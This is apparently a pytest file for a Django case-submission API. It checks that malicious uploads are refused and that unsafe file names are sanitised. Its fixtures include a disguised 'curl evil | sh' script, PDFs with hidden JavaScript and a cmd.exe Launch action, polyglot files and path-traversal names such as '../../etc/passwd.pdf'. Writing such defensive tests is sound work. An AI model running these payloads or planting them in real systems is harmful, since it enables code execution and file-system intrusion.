"""The upload hardening corpus through the case submission API: each bad file is refused
with a clear code, and nothing — no case, no stored file — is left behind."""

import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.cases.conftest import GOOD_FORM, PDF
from tests.documents import corpus
from tests.documents.test_uploads import JPEG
from tongban.cases.models import Case
from tongban.documents.models import StoredFile

pytestmark = pytest.mark.django_db


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("申请书.pdf", PDF)
    return buffer.getvalue()


OPENS = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
CORPUS = [
    ("申请书.pdf", b"MZ\x90\x00" + b"\x00" * 200, "file_executable"),  # disguised .exe
    ("申请书.pdf", b"#!/bin/sh\ncurl evil | sh\n", "file_executable"),
    ("材料.zip", _zip(), "file_archive"),
    ("材料.pdf", _zip(), "file_archive"),
    ("broken.pdf", PDF[:40], "file_pdf_malformed"),
    (
        "active.pdf",
        PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript>>"),
        "file_pdf_javascript",
    ),
    ("empty.pdf", b"", "file_empty"),
    # judged by a parser (issue 9 item 5): what a byte search does not see
    (
        "escaped.pdf",
        corpus.pdf({1: OPENS, 4: b"<</S/J#61vaScript/J#53(x)>>"}),
        "file_pdf_javascript",
    ),
    (
        "packed.pdf",
        corpus.pdf({1: OPENS}, compressed={4: b"<</S/JavaScript/JS(x)>>"}),
        "file_pdf_javascript",
    ),
    (
        "launch.pdf",
        corpus.pdf({1: OPENS, 4: b"<</S/L#61unch/F(cmd.exe)>>"}),
        "file_pdf_launch",
    ),
    ("attached.pdf", corpus.attachment_pdf(), "file_pdf_embedded"),
    ("locked.pdf", corpus.encrypted_pdf(), "file_pdf_encrypted"),
    ("garbage.pdf", b"%PDF-1.7\nnot a PDF at all\n%%EOF\n", "file_pdf_malformed"),
    ("证照.ofd", corpus.ofd({"Doc_0/../../evil.xml": b"<x/>"}), "file_ofd_entry_name"),
    ("证照.ofd", corpus.ofd({"Doc_0/Res/update.exe": b"MZ"}), "file_ofd_executable"),
    ("证照.ofd", corpus.zip_bytes({"OFD.xml": b"<ofd:OFD/>"}), "file_ofd_malformed"),
    ("照片.jpg", JPEG + corpus.zip_bytes({"a.exe": b"MZ"}), "file_polyglot"),
    ("申请书.pdf", corpus.pdf() + corpus.zip_bytes({"a.exe": b"MZ"}), "file_polyglot"),
    (
        "big.pdf",
        PDF + b" " * (11 * 1024 * 1024),
        "file_too_large",
    ),  # > 10 MB per material
]


@pytest.mark.parametrize(
    ("name", "data", "code"), CORPUS, ids=[c[2] + "-" + c[0] for c in CORPUS]
)
def test_bad_files_are_refused_and_nothing_is_kept(
    applicant_api,
    service,
    materials,
    settings,
    tmp_path: Path,
    name: str,
    data: bytes,
    code: str,
) -> None:  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path
    good = SimpleUploadedFile("ok.pdf", PDF)
    response = applicant_api.post(
        "/api/v1/public/cases/",
        {
            "implementation_code": service.implementation.code,
            "client_key": "corpus-0001",
            "form": GOOD_FORM,
            f"material_{materials['法定代表人身份证复印件']}": good,
            f"material_{materials['申请书']}": SimpleUploadedFile(name, data),
        },
        format="multipart",
    )
    assert response.status_code == 400
    codes = {p["code"] for p in response.json()["invalid_params"]}
    assert code in codes
    assert not Case.objects.exists()
    assert not StoredFile.objects.exists()
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]  # not even the good file


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.pdf",
        "C:\\Windows\\申请书.pdf",
        "a\x00b\x1f.pdf",
        "x" * 400 + ".pdf",
    ],
)
def test_odd_names_are_stored_safely(
    applicant_api, service, materials, settings, tmp_path: Path, name: str
) -> None:  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path
    response = applicant_api.post(
        "/api/v1/public/cases/",
        {
            "implementation_code": service.implementation.code,
            "client_key": "names-0001",
            "form": GOOD_FORM,
            f"material_{materials['申请书']}": SimpleUploadedFile(name, PDF),
        },
        format="multipart",
    )
    assert response.status_code == 201, response.json()
    stored = StoredFile.objects.get()
    for unsafe in ("/", "\\", "\x00"):
        assert unsafe not in stored.name
    assert len(stored.name) <= 120
    assert all(tmp_path in p.parents for p in tmp_path.rglob("*"))
